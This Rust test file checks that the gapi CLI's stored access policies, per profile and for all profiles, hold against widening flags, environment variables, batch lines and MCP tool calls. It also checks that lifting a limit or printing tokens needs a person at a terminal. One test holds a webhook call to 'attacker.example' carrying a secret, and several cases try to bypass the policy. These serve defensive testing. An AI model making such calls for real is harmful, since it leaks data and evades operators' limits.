//! A policy pinned to a profile (`gapi auth policy set|show|clear`, issue 19 §2): every CLI
//! call, `--batch` line and `gapi mcp` call under the profile obeys it; flags and environment
//! (before or after the API name, `GAPI_READ_ONLY`, MCP server flags) can only narrow it,
//! deny wins over allow, a refused call sends nothing (the emulator's request log stays
//! empty) and exits 2 naming the rule; lifting a limit needs a person at a terminal.

use crate::common;

use common::Setup;
use serde_json::{Value, json};

/// The requests the emulator got since the last call, then cleared.
async fn requests_since(setup: &Setup) -> Vec<Value> {
    let url = format!("{}/__emulator/requests", setup.base());
    let http = reqwest::Client::new();
    let log: Value = http.get(&url).send().await.unwrap().json().await.unwrap();
    http.delete(&url).send().await.unwrap();
    log["requests"].as_array().cloned().unwrap_or_default()
}

/// The paths of the requests the emulator received since the last look (and forgets them).
async fn paths_since(setup: &Setup) -> Vec<String> {
    requests_since(setup)
        .await
        .iter()
        .filter_map(|r| r["path"].as_str().map(str::to_owned))
        .collect()
}

fn endpoint(setup: &Setup) -> String {
    format!("{}/", setup.base())
}

/// The policy every test here stores with the default profile: reads of Drive only, and
/// never its permissions.
const STORED: &[&str] = &[
    "auth",
    "policy",
    "set",
    "--read-only",
    "--allow",
    "drive.*",
    "--deny",
    "drive.permissions.*",
];

async fn store_policy(setup: &Setup) {
    let out = setup.run(STORED).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
}

/// Runs `gapi ARGS` with `env`, no GAPI_READ_ONLY unless given.
async fn run_env(setup: &Setup, args: &[&str], env: &[(&str, &str)]) -> common::Output {
    let mut cmd = setup.gapi();
    cmd.args(args).env_remove("GAPI_READ_ONLY");
    for (k, v) in env {
        cmd.env(k, v);
    }
    common::run(cmd).await
}

#[tokio::test(flavor = "multi_thread")]
async fn flags_and_environment_cannot_widen_the_stored_policy_and_deny_wins() {
    let setup = Setup::new(true).await;
    store_policy(&setup).await;
    let ep = endpoint(&setup);
    let base = ["--anonymous", "--endpoint", ep.as_str()];
    let delete = ["drive", "files", "delete", "-p", "fileId=F"];
    let perms = ["drive", "permissions", "list", "-p", "fileId=F"];
    let gmail = ["gmail", "users", "labels", "list", "-p", "userId=me"];
    let steer = ["drive", "files", "get", "-p", "fileId=F/permissions"];
    // (call words, widening flags, env, the rule that must be named)
    type Case<'a> = (
        &'a [&'a str],
        Vec<&'a str>,
        Vec<(&'a str, &'a str)>,
        &'a str,
    );
    let cases: Vec<Case> = vec![
        (&delete, vec![], vec![], "read-only rule"),
        (
            &delete,
            vec!["--allow", "drive.files.delete"],
            vec![],
            "read-only rule",
        ),
        (
            &delete,
            vec!["--allow", "*"],
            vec![("GAPI_READ_ONLY", "0")],
            "read-only rule",
        ),
        (
            &delete,
            vec![],
            vec![("GAPI_READ_ONLY", "false")],
            "read-only rule",
        ),
        (&perms, vec![], vec![], "deny-list"),
        (
            &perms,
            vec!["--allow", "drive.permissions.list"],
            vec![],
            "deny-list",
        ),
        (&perms, vec!["--allow", "*"], vec![], "deny-list"),
        (&gmail, vec!["--allow", "gmail.*"], vec![], "allow-list"),
        (
            &gmail,
            vec!["--allow", "*"],
            vec![("GAPI_READ_ONLY", "1")],
            "allow-list",
        ),
        (
            &steer,
            vec!["--allow", "*"],
            vec![],
            "reaches drive.permissions.list",
        ),
    ];
    requests_since(&setup).await;
    for (words, flags, env, rule) in &cases {
        let after = [words, &flags[..], &base[..]].concat();
        let before = [&flags[..], words, &base[..]].concat();
        let dry = [&after[..], &["--dry-run"][..]].concat();
        for (args, leading) in [(after, false), (before, !flags.is_empty()), (dry, false)] {
            let out = run_env(&setup, &args, env).await;
            assert_eq!(out.code, 2, "{args:?} {env:?}: {}", out.stderr);
            // A call flag before the API name is refused by the parser (until it is global),
            // or judged like the same flag after it; either way nothing is sent.
            let unparsed = leading && out.stderr.contains("unexpected argument");
            assert!(
                unparsed
                    || (out.stderr.contains("refused by the policy") && out.stderr.contains(rule)),
                "{args:?} {env:?} names {rule}: {}",
                out.stderr
            );
            assert!(out.stdout.is_empty(), "{args:?}: {}", out.stdout);
            let sent = requests_since(&setup).await;
            assert!(sent.is_empty(), "{args:?} {env:?} sent {sent:?}");
        }
    }
    // The rule's source is named: the stored policy, not the flags.
    let out = run_env(
        &setup,
        &[&perms[..], &["--allow", "*"], &base[..]].concat(),
        &[],
    )
    .await;
    assert!(
        out.stderr.contains("stored with profile default"),
        "{}",
        out.stderr
    );
    // Flags still narrow: a read the stored policy allows, refused by --allow.
    let list = ["drive", "files", "list"];
    let out = run_env(
        &setup,
        &[&list[..], &["--allow", "drive.about.get"], &base[..]].concat(),
        &[],
    )
    .await;
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(requests_since(&setup).await.is_empty());
    // What the policy allows is sent (the counter counts; anonymous, the emulator says 401).
    let out = run_env(&setup, &[&list[..], &base[..]].concat(), &[]).await;
    assert_ne!(out.code, 2, "{}", out.stderr);
    assert!(
        !out.stderr.contains("refused by the policy"),
        "{}",
        out.stderr
    );
    assert_eq!(requests_since(&setup).await.len(), 1);
    // GAPI_PROFILE names the same profile: the same policy.
    let out = run_env(
        &setup,
        &[&delete[..], &base[..]].concat(),
        &[("GAPI_PROFILE", "default")],
    )
    .await;
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(requests_since(&setup).await.is_empty());
    // The policy is the profile's: another profile is not under it (a dry run needs no
    // credentials).
    let dry = [&delete[..], &["--dry-run", "--endpoint", ep.as_str()]].concat();
    let out = run_env(&setup, &dry, &[]).await;
    assert_eq!(out.code, 2, "{}", out.stderr);
    let out = run_env(&setup, &[&dry[..], &["--profile", "other"]].concat(), &[]).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
}

#[tokio::test(flavor = "multi_thread")]
async fn each_batch_line_obeys_the_stored_policy() {
    let setup = Setup::new(true).await;
    store_policy(&setup).await;
    let ep = endpoint(&setup);
    let file = setup.dir.path().join("calls.ndjson");
    let lines = [
        json!({"method": "files.list"}),
        json!({"method": "files.delete", "params": {"fileId": "F"}}),
        json!({"method": "permissions.list", "params": {"fileId": "F"}}),
        json!({"method": "files.get", "params": {"fileId": "F/permissions"}}),
    ];
    let text: String = lines.iter().map(|l| format!("{l}\n")).collect();
    std::fs::write(&file, &text).unwrap();
    requests_since(&setup).await;
    for widening in [&["--allow", "*"][..], &[][..]] {
        let args = [
            &["drive", "--batch", file.to_str().unwrap()][..],
            widening,
            &["--anonymous", "--endpoint", ep.as_str()][..],
        ]
        .concat();
        let out = run_env(&setup, &args, &[("GAPI_READ_ONLY", "0")]).await;
        assert_ne!(out.code, 0, "{}", out.stderr);
        let got: Vec<Value> = out
            .stdout
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        assert_eq!(got.len(), 4, "{}", out.stdout);
        assert!(got[0]["status"].is_u64(), "{}", got[0]);
        for (i, rule) in [
            (1, "read-only rule"),
            (2, "deny-list"),
            (3, "reaches drive.permissions.list"),
        ] {
            let err = got[i]["error"].as_str().unwrap_or_default();
            assert!(
                err.contains("refused by the policy") && err.contains(rule),
                "line {i}: {}",
                got[i]
            );
        }
        let paths = paths_since(&setup).await;
        assert_eq!(paths, ["/batch/drive/v3", "/drive/v3/files"]);
    }
}

/// Runs tool calls through `gapi mcp FLAGS` with the official MCP Python SDK.
async fn mcp_session(setup: &Setup, flags: &[&str], env: &[(&str, &str)], calls: Value) -> Value {
    let python = std::env::var("GAPI_TEST_PYTHON").unwrap_or_else(|_| "python3".into());
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/python/mcp_calls.py");
    let mut cmd = tokio::process::Command::new(&python);
    cmd.arg(script)
        .arg(calls.to_string())
        .arg(env!("CARGO_BIN_EXE_gapi"))
        .args(["mcp", "--anonymous", "--endpoint", &endpoint(setup)])
        .args(flags)
        .env("GAPI_CONFIG_DIR", setup.config_dir())
        .env_remove("GAPI_PROFILE")
        .env_remove("GAPI_ENDPOINT")
        .env_remove("GAPI_READ_ONLY")
        .env("CLOUDSDK_CONFIG", setup.config_dir().join("no-gcloud"))
        .kill_on_drop(true);
    for (k, v) in env {
        cmd.env(k, v);
    }
    let out = tokio::time::timeout(std::time::Duration::from_secs(120), cmd.output())
        .await
        .expect("the MCP session finished")
        .unwrap_or_else(|e| panic!("could not run {python}: {e}; source target/test-env.sh"));
    assert!(
        out.status.success(),
        "{python} {script} failed (is PyPI mcp installed? source target/test-env.sh): {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).expect("the client printed JSON")
}

#[tokio::test(flavor = "multi_thread")]
async fn gapi_mcp_obeys_the_stored_policy_whatever_its_flags() {
    let setup = Setup::new(true).await;
    store_policy(&setup).await;
    requests_since(&setup).await;
    let call = |method: &str, params: Value| json!(["call_method", {"api": "drive", "method": method, "params": params}]);
    let calls = json!([
        call("files.delete", json!({"fileId": "F"})),
        call("permissions.list", json!({"fileId": "F"})),
        call("files.get", json!({"fileId": "F/permissions"})),
        ["call_method", {"api": "gmail", "method": "users.labels.list", "params": {"userId": "me"}}],
        call("files.list", json!({})),
    ]);
    for (flags, env) in [
        (vec![], vec![]),
        (vec!["--allow", "*"], vec![("GAPI_READ_ONLY", "0")]),
        (
            vec![
                "--allow",
                "drive.permissions.list",
                "--allow",
                "drive.files.*",
                "--allow",
                "gmail.*",
            ],
            vec![],
        ),
    ] {
        let out = mcp_session(&setup, &flags, &env, calls.clone()).await;
        let results = out["results"].as_array().unwrap();
        assert_eq!(
            out["annotations"]["call_method"]["readOnlyHint"], true,
            "the stored read-only shows in the tool's annotation: {out}"
        );
        for (i, rule) in [
            (0, "read-only rule"),
            (1, "deny-list"),
            (2, "reaches drive.permissions.list"),
            (3, "allow-list"),
        ] {
            let r = &results[i];
            assert_eq!(r["is_error"], true, "{flags:?} call {i}: {r}");
            let text = r["text"].as_str().unwrap_or_default();
            assert!(
                text.contains("refused by the policy") && text.contains(rule),
                "{flags:?} call {i}: {text}"
            );
        }
        let last = &results[4];
        // Sent (anonymous: the emulator answers 401), not refused.
        assert!(
            !last["text"]
                .as_str()
                .unwrap_or_default()
                .contains("refused by the policy"),
            "{flags:?}: files.list is allowed: {last}"
        );
        let paths = paths_since(&setup).await;
        assert_eq!(
            paths,
            ["/drive/v3/files"],
            "{flags:?}: only files.list was sent"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn set_show_clear_and_widening_needs_a_person() {
    let setup = Setup::new(true).await;
    let show = || setup.run(&["auth", "policy", "show", "--json"]);
    let out = show().await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    let v: Value = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(v["stored"], false, "{v}");

    store_policy(&setup).await;
    let v: Value = serde_json::from_str(&show().await.stdout).unwrap();
    assert_eq!(
        (v["readOnly"].clone(), v["allow"].clone(), v["deny"].clone()),
        (
            json!(true),
            json!(["drive.*"]),
            json!(["drive.permissions.*"])
        ),
        "{v}"
    );
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let file = setup.config_dir().join("policies/default.json");
        let mode = std::fs::metadata(&file).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o600, "{}", file.display());
    }
    // Without a terminal (stdin is /dev/null here), every widening is refused and changes
    // nothing: clear, dropping read-only, dropping a deny, allowing more.
    for args in [
        &["auth", "policy", "clear"][..],
        &[
            "auth",
            "policy",
            "set",
            "--allow",
            "drive.*",
            "--deny",
            "drive.permissions.*",
        ][..],
        &["auth", "policy", "set", "--read-only", "--allow", "drive.*"][..],
        &[
            "auth",
            "policy",
            "set",
            "--read-only",
            "--allow",
            "*",
            "--deny",
            "drive.permissions.*",
        ][..],
    ] {
        let out = setup.run(args).await;
        assert_eq!(out.code, 2, "{args:?}: {}", out.stderr);
        assert!(
            out.stderr.contains("needs a person") && out.stderr.contains("Nothing was changed"),
            "{args:?}: {}",
            out.stderr
        );
        let now: Value = serde_json::from_str(&show().await.stdout).unwrap();
        assert_eq!(now, v, "{args:?} changed the policy");
    }
    // Narrowing needs nobody.
    let out = setup
        .run(&[
            "auth",
            "policy",
            "set",
            "--read-only",
            "--allow",
            "drive.files.*",
            "--deny",
            "drive.permissions.*",
            "--deny",
            "drive.files.export",
        ])
        .await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    let now: Value = serde_json::from_str(&show().await.stdout).unwrap();
    assert_eq!(now["allow"], json!(["drive.files.*"]), "{now}");

    // At a terminal: "no" keeps it, "yes" clears it.
    for (answer, stored) in [("no", true), ("yes", false)] {
        let (code, text) = at_terminal(&setup, &["auth", "policy", "clear"], answer).await;
        assert!(text.contains("Type yes to confirm"), "{text}");
        let now: Value = serde_json::from_str(&show().await.stdout).unwrap();
        assert_eq!(now["stored"], stored, "{answer}: {text} {now}");
        assert_eq!(code == 0, !stored, "{answer}: exit {code}: {text}");
    }
}

/// Runs `gapi ARGS` on a pseudo-terminal (Python's pty module), typing `answer` when asked;
/// returns the exit code and what the terminal showed.
async fn at_terminal(setup: &Setup, args: &[&str], answer: &str) -> (i32, String) {
    at_terminal_env(setup, args, answer, &[]).await
}

/// [`at_terminal`] with environment variables set for gapi.
async fn at_terminal_env(
    setup: &Setup,
    args: &[&str],
    answer: &str,
    env: &[(&str, &str)],
) -> (i32, String) {
    let python = std::env::var("GAPI_TEST_PYTHON").unwrap_or_else(|_| "python3".into());
    let script = r#"
import os, pty, sys
answer, argv = sys.argv[1], sys.argv[2:]
pid, fd = pty.fork()
if pid == 0:
    os.execv(argv[0], argv)
seen = b""
sent = False
while True:
    try:
        chunk = os.read(fd, 1024)
    except OSError:
        break
    if not chunk:
        break
    seen += chunk
    if not sent and b"confirm:" in seen:
        os.write(fd, answer.encode() + b"\n")
        sent = True
_, status = os.waitpid(pid, 0)
sys.stdout.write(seen.decode(errors="replace"))
sys.exit(os.waitstatus_to_exitcode(status))
"#;
    let mut cmd = tokio::process::Command::new(&python);
    cmd.arg("-c")
        .arg(script)
        .arg(answer)
        .arg(env!("CARGO_BIN_EXE_gapi"))
        .args(args)
        .env("GAPI_CONFIG_DIR", setup.config_dir())
        .env_remove("GAPI_PROFILE")
        .kill_on_drop(true);
    for (k, v) in env {
        cmd.env(k, v);
    }
    let out = tokio::time::timeout(std::time::Duration::from_secs(60), cmd.output())
        .await
        .expect("finished")
        .unwrap_or_else(|e| panic!("could not run {python}: {e}"));
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn drafts_yes_send_no_as_the_readme_shows() {
    let setup = Setup::new(true).await;
    let out = setup
        .run(&[
            "auth",
            "policy",
            "set",
            "--profile",
            "agent",
            "--allow",
            "gmail.users.drafts.*",
            "--deny",
            "gmail.users.drafts.send",
            "--deny",
            "gmail.users.messages.send",
        ])
        .await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    let call = |words: &'static [&'static str]| {
        [
            words,
            &[
                "-p",
                "userId=me",
                "--json",
                "{}",
                "--profile",
                "agent",
                "--dry-run",
            ][..],
        ]
        .concat()
    };
    let out = setup
        .run(&call(&["gmail", "users", "drafts", "create"]))
        .await;
    assert_eq!(out.code, 0, "drafts yes: {}", out.stderr);
    for (words, rule) in [
        (&["gmail", "users", "drafts", "send"][..], "deny-list"),
        (&["gmail", "users", "messages", "send"][..], "allow-list"),
    ] {
        let out = setup
            .run(&[call(words), vec!["--allow", "*"]].concat())
            .await;
        assert_eq!(out.code, 2, "send no: {}", out.stderr);
        assert!(out.stderr.contains(rule), "{words:?}: {}", out.stderr);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn gapi_mcp_under_a_policy_refuses_urls_google_would_fetch_unless_allowed() {
    let setup = Setup::new(true).await;
    let watch = json!([["call_method", {"api": "drive", "method": "files.watch",
        "params": {"fileId": "F"},
        "body": {"id": "c1", "type": "web_hook", "address": "https://attacker.example/?d=secret"}}]]);
    requests_since(&setup).await;
    // Under a policy (server flags, or the stored one): refused, nothing sent.
    for flags in [&["--allow", "drive.*"][..], &[][..]] {
        if flags.is_empty() {
            let out = setup
                .run(&["auth", "policy", "set", "--allow", "drive.*"])
                .await;
            assert_eq!(out.code, 0, "{}", out.stderr);
        }
        let out = mcp_session(&setup, flags, &[], watch.clone()).await;
        let r = &out["results"][0];
        assert_eq!(r["is_error"], true, "{flags:?}: {r}");
        let text = r["text"].as_str().unwrap_or_default();
        assert!(
            text.contains("body.address") && text.contains("--allow-egress"),
            "{flags:?}: {text}"
        );
        assert!(requests_since(&setup).await.is_empty(), "{flags:?}: sent");
    }
    // A person's --allow-egress lets it go.
    let out = mcp_session(&setup, &["--allow-egress"], &[], watch).await;
    let text = out["results"][0]["text"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    assert!(!text.contains("--allow-egress"), "{text}");
    assert_eq!(requests_since(&setup).await.len(), 1, "{text}");
}

// ---- The policy for every identity (`--all-profiles`) and credentials handed out ----------

/// A policy for every identity: reads of Drive only, never its permissions.
const ALL: &[&str] = &[
    "auth",
    "policy",
    "set",
    "--all-profiles",
    "--read-only",
    "--allow",
    "drive.*",
    "--deny",
    "drive.permissions.*",
];

#[tokio::test(flavor = "multi_thread")]
async fn a_policy_for_every_profile_is_stored_apart_shown_and_lifted_only_by_a_person() {
    let setup = Setup::new(true).await;
    let out = setup.run(ALL).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    let file = setup.config_dir().join("policies/+all-profiles.json");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&file).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o600, "{}", file.display());
    }
    let show = |args: &'static [&'static str]| setup.run(args);
    let all = &["auth", "policy", "show", "--all-profiles", "--json"];
    let v: Value = serde_json::from_str(&show(all).await.stdout).unwrap();
    assert_eq!(
        (&v["allProfiles"], &v["stored"], &v["readOnly"], &v["deny"]),
        (
            &json!(true),
            &json!(true),
            &json!(true),
            &json!(["drive.permissions.*"])
        ),
        "{v}"
    );
    // The profile's own policy is another file: none stored.
    let own: Value =
        serde_json::from_str(&show(&["auth", "policy", "show", "--json"]).await.stdout).unwrap();
    assert_eq!(own["stored"], false, "{own}");
    // No profile can name the file.
    let out = setup
        .run(&[
            "auth",
            "policy",
            "set",
            "--profile",
            "+all-profiles",
            "--read-only",
        ])
        .await;
    assert_ne!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stderr.contains("invalid profile name"),
        "{}",
        out.stderr
    );
    // `--all-profiles` beside a `--profile` flag (before or after the command) is refused, not
    // read as either one; GAPI_PROFILE, the shell's default, gives way to `--all-profiles`.
    for sub in [&["set", "--read-only"][..], &["show"], &["clear"]] {
        for before in [true, false] {
            let mut args = Vec::new();
            if before {
                args.extend(["--profile", "work"]);
            }
            args.extend(["auth", "policy"]);
            args.extend(sub);
            args.push("--all-profiles");
            if !before {
                args.extend(["--profile", "work"]);
            }
            let out = setup.run(&args).await;
            assert_eq!(out.code, 2, "{args:?}: {}", out.stderr);
            assert!(
                out.stderr.contains("name two different policies")
                    && out.stderr.contains("drop `--profile work`"),
                "{args:?}: {}",
                out.stderr
            );
        }
    }
    assert!(
        !setup.config_dir().join("policies/work.json").exists(),
        "a refused --all-profiles --profile stored a profile policy"
    );
    let now: Value = serde_json::from_str(&show(all).await.stdout).unwrap();
    assert_eq!(
        now, v,
        "a refused --all-profiles --profile changed the policy"
    );
    let out = run_env(
        &setup,
        &["auth", "policy", "show", "--all-profiles", "--json"],
        &[("GAPI_PROFILE", "work")],
    )
    .await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    let env_shown: Value = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(env_shown, v, "{}", out.stderr);
    // Lifting it needs a person: without a terminal, nothing changes.
    for args in [
        &["auth", "policy", "clear", "--all-profiles"][..],
        &[
            "auth",
            "policy",
            "set",
            "--all-profiles",
            "--allow",
            "drive.*",
        ][..],
        &["auth", "policy", "set", "--all-profiles", "--read-only"][..],
    ] {
        let out = setup.run(args).await;
        assert_eq!(out.code, 2, "{args:?}: {}", out.stderr);
        assert!(
            out.stderr.contains("needs a person") && out.stderr.contains("every profile"),
            "{args:?}: {}",
            out.stderr
        );
        let now: Value = serde_json::from_str(&show(all).await.stdout).unwrap();
        assert_eq!(now, v, "{args:?} changed the policy");
    }
    // Narrowing needs nobody.
    let out = setup
        .run(&[ALL, &["--deny", "drive.files.export"][..]].concat())
        .await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    // At a terminal, "yes" clears it.
    let (code, text) = at_terminal(
        &setup,
        &["auth", "policy", "clear", "--all-profiles"],
        "yes",
    )
    .await;
    assert_eq!(code, 0, "{text}");
    assert!(text.contains("every profile"), "{text}");
    assert!(!file.exists());
}

#[tokio::test(flavor = "multi_thread")]
async fn the_policy_for_every_profile_holds_whatever_identity_and_position() {
    let setup = Setup::new(true).await;
    let out = setup.run(ALL).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    // A profile's own policy narrows it further (deny wins, only narrowing).
    let out = setup
        .run(&[
            "auth",
            "policy",
            "set",
            "--profile",
            "work",
            "--allow",
            "drive.files.*",
        ])
        .await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    let ep = endpoint(&setup);
    let key_file = setup.dir.path().join("sa.json");
    std::fs::write(&key_file, "{}").unwrap();
    let key_path = key_file.to_str().unwrap();
    let delete = ["drive", "files", "delete", "-p", "fileId=F"];
    let perms = ["drive", "permissions", "list", "-p", "fileId=F"];
    let gmail = ["gmail", "users", "labels", "list", "-p", "userId=me"];
    // (identity options, environment): every way to choose who a call runs as.
    type Identity<'a> = (Vec<&'a str>, Vec<(&'a str, &'a str)>);
    let identities: Vec<Identity> = vec![
        (vec!["--profile", "other"], vec![]),
        (vec![], vec![("GAPI_PROFILE", "other")]),
        (vec!["--profile", "work"], vec![]),
        (vec![], vec![("GOOGLE_APPLICATION_CREDENTIALS", key_path)]),
        (vec![], vec![("GAPI_ACCESS_TOKEN", "ya29.agent-token")]),
        (vec!["--api-key", "AIzaKEY"], vec![]),
        (vec![], vec![("GAPI_API_KEY", "AIzaKEY")]),
        (vec!["--anonymous"], vec![]),
        (
            vec![
                "--impersonate-service-account",
                "robot@gapi-emulator.iam.gserviceaccount.com",
            ],
            vec![],
        ),
    ];
    requests_since(&setup).await;
    for (who, env) in &identities {
        for (words, rule) in [
            (&delete[..], "read-only rule"),
            (&perms[..], "deny-list"),
            (&gmail[..], "allow-list"),
        ] {
            // Widening flags and environment on top: they only narrow.
            let widen = ["--allow", "*"];
            let tail = ["--endpoint", ep.as_str()];
            let after = [words, &who[..], &widen[..], &tail[..]].concat();
            let before = [&who[..], &widen[..], words, &tail[..]].concat();
            let mut env = env.clone();
            env.push(("GAPI_READ_ONLY", "0"));
            for args in [after, before] {
                let out = run_env(&setup, &args, &env).await;
                assert_eq!(out.code, 2, "{args:?} {env:?}: {}", out.stderr);
                // Refused by the policy for every profile, or first by `work`'s own
                // allow-list (both hold; the first refusal is named).
                let by_all = out.stderr.contains(rule) && out.stderr.contains("every profile");
                let by_work =
                    who.contains(&"work") && out.stderr.contains("stored with profile work");
                assert!(
                    out.stderr.contains("refused by the policy") && (by_all || by_work),
                    "{args:?} {env:?} names {rule} of the policy for every profile: {}",
                    out.stderr
                );
                let sent = requests_since(&setup).await;
                assert!(sent.is_empty(), "{args:?} {env:?} sent {sent:?}");
            }
        }
    }
    // The profile's own policy still holds beside it: `about.get` is a Drive read the policy
    // for every profile allows and `work`'s refuses.
    let out = run_env(
        &setup,
        &[
            "drive",
            "about",
            "get",
            "--profile",
            "work",
            "--endpoint",
            &ep,
        ],
        &[],
    )
    .await;
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(
        out.stderr.contains("stored with profile work"),
        "{}",
        out.stderr
    );
    // What both allow is sent.
    let out = run_env(
        &setup,
        &["drive", "files", "list", "--anonymous", "--endpoint", &ep],
        &[],
    )
    .await;
    assert!(
        !out.stderr.contains("refused by the policy"),
        "{}",
        out.stderr
    );
    assert_eq!(requests_since(&setup).await.len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn batch_lines_mcp_and_helpers_obey_the_policy_for_every_profile() {
    let setup = Setup::new(true).await;
    let out = setup.run(ALL).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    let ep = endpoint(&setup);
    // --batch, under identities no profile policy covers.
    let file = setup.dir.path().join("calls.ndjson");
    let lines = [
        json!({"method": "files.list"}),
        json!({"method": "files.delete", "params": {"fileId": "F"}}),
        json!({"method": "permissions.list", "params": {"fileId": "F"}}),
    ];
    let text: String = lines.iter().map(|l| format!("{l}\n")).collect();
    std::fs::write(&file, &text).unwrap();
    requests_since(&setup).await;
    for who in [&["--anonymous"][..], &["--api-key", "AIzaKEY"][..]] {
        let args = [
            &["drive", "--batch", file.to_str().unwrap(), "--allow", "*"][..],
            who,
            &["--endpoint", ep.as_str()][..],
        ]
        .concat();
        let out = run_env(&setup, &args, &[("GAPI_READ_ONLY", "0")]).await;
        let got: Vec<Value> = out
            .stdout
            .lines()
            .filter_map(|l| serde_json::from_str(l).ok())
            .collect();
        assert_eq!(got.len(), 3, "{args:?}: {}\n{}", out.stdout, out.stderr);
        for (i, rule) in [(1, "read-only rule"), (2, "deny-list")] {
            let err = got[i]["error"].as_str().unwrap_or_default();
            assert!(
                err.contains("refused by the policy")
                    && err.contains(rule)
                    && err.contains("every profile"),
                "{args:?} line {i}: {}",
                got[i]
            );
        }
        let paths = paths_since(&setup).await;
        assert_eq!(paths, ["/batch/drive/v3", "/drive/v3/files"], "{args:?}");
    }

    // gapi mcp (the official Python SDK as client), anonymous, whatever its flags.
    let call = |method: &str, params: Value| json!(["call_method", {"api": "drive", "method": method, "params": params}]);
    let calls = json!([
        call("files.delete", json!({"fileId": "F"})),
        call("permissions.list", json!({"fileId": "F"})),
        ["call_method", {"api": "gmail", "method": "users.labels.list", "params": {"userId": "me"}}],
        call("files.list", json!({})),
    ]);
    for (flags, env) in [
        (vec![], vec![]),
        (vec!["--allow", "*"], vec![("GAPI_READ_ONLY", "0")]),
    ] {
        let out = mcp_session(&setup, &flags, &env, calls.clone()).await;
        let results = out["results"].as_array().unwrap();
        for (i, rule) in [(0, "read-only rule"), (1, "deny-list"), (2, "allow-list")] {
            let r = &results[i];
            let text = r["text"].as_str().unwrap_or_default();
            assert!(
                r["is_error"] == true
                    && text.contains("refused by the policy")
                    && text.contains(rule)
                    && text.contains("every profile"),
                "{flags:?} call {i}: {r}"
            );
        }
        let paths = paths_since(&setup).await;
        assert_eq!(
            paths,
            ["/drive/v3/files"],
            "{flags:?}: only files.list was sent"
        );
    }

    // The +helpers, before and after the helper's name.
    let send = [
        "gmail",
        "+send",
        "--to",
        "bob@example.com",
        "--subject",
        "s",
        "--body",
        "b",
    ];
    for args in [
        [
            &send[..],
            &["--anonymous", "--allow", "*", "--endpoint", ep.as_str()][..],
        ]
        .concat(),
        [
            &["--anonymous", "--allow", "*"][..],
            &send[..],
            &["--endpoint", ep.as_str()][..],
        ]
        .concat(),
        vec![
            "drive",
            "+upload",
            "/nonexistent-refused-first",
            "--anonymous",
            "--endpoint",
            &ep,
        ],
    ] {
        let out = run_env(&setup, &args, &[("GAPI_READ_ONLY", "0")]).await;
        assert_eq!(out.code, 2, "{args:?}: {}", out.stderr);
        assert!(
            out.stderr.contains("refused") && out.stderr.contains("every profile"),
            "{args:?}: {}",
            out.stderr
        );
        let sent = requests_since(&setup).await;
        assert!(sent.is_empty(), "{args:?} sent {sent:?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn credentials_usable_outside_gapi_are_not_handed_out_under_a_policy() {
    let token = [("GAPI_ACCESS_TOKEN", "ya29.outside-token")];
    let print = ["auth", "print-access-token"];
    let id_token = [
        "auth",
        "print-identity-token",
        "--audience",
        "https://x.example",
    ];
    // No policy: printed (what an unrestricted login allows).
    let setup = Setup::new(true).await;
    let out = run_env(&setup, &print, &token).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(out.stdout.trim(), "ya29.outside-token");
    // The profile's policy, then the one for every profile (under another profile too).
    let out = setup.run(STORED).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    let profile_only = Setup::new(true).await;
    let out = profile_only.run(STORED).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    let all_only = Setup::new(true).await;
    let out = all_only.run(ALL).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    let adc = ["auth", "application-default", "login"];
    for (s, args, names) in [
        (&profile_only, &print[..], "stored with profile default"),
        (&profile_only, &id_token[..], "stored with profile default"),
        (&profile_only, &adc[..], "stored with profile default"),
        (&all_only, &print[..], "every profile"),
        (
            &all_only,
            &[&print[..], &["--profile", "other"]].concat()[..],
            "every profile",
        ),
        (
            &all_only,
            &[&["--profile", "other"][..], &print[..]].concat()[..],
            "every profile",
        ),
        (&all_only, &id_token[..], "every profile"),
    ] {
        let out = run_env(s, args, &token).await;
        assert_eq!(out.code, 2, "{args:?}: {}", out.stderr);
        assert!(out.stdout.is_empty(), "{args:?} printed {}", out.stdout);
        assert!(
            out.stderr.contains("needs a person") && out.stderr.contains(names),
            "{args:?}: {}",
            out.stderr
        );
        assert!(!out.stderr.contains("outside-token"), "{}", out.stderr);
    }
    // A person at a terminal may still take it: "no" prints nothing, "yes" prints it.
    let (code, text) = at_terminal_env(&all_only, &print, "no", &token).await;
    assert_eq!(code, 2, "{text}");
    assert!(!text.contains("ya29.outside-token"), "{text}");
    let (code, text) = at_terminal_env(&all_only, &print, "yes", &token).await;
    assert_eq!(code, 0, "{text}");
    assert!(text.contains("ya29.outside-token"), "{text}");
}
